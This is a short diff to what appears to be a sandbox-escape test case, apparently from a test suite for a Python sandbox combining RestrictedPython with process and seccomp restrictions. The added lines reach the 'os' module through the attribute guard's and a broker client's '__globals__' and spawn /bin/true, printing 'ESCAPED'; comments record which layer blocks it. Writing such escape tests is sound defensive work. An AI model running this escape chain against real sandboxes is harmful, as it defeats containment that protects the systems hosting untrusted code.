@@ -1,4 +1,7 @@
 # attack: function globals
-# stops: restrictedpython
-# the guard's own globals
-print(_getattr_.__globals__, "ESCAPED")
+# stops: restrictedpython: "_getattr_" is an invalid variable name
+# os: process/seccomp: Operation not permitted
+# baseline: -restrictedpython => escaped
+# the attribute guard's own globals
+os = _getattr_.__globals__["api"].BrokerClient.call.__globals__["protocol"].os
+print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
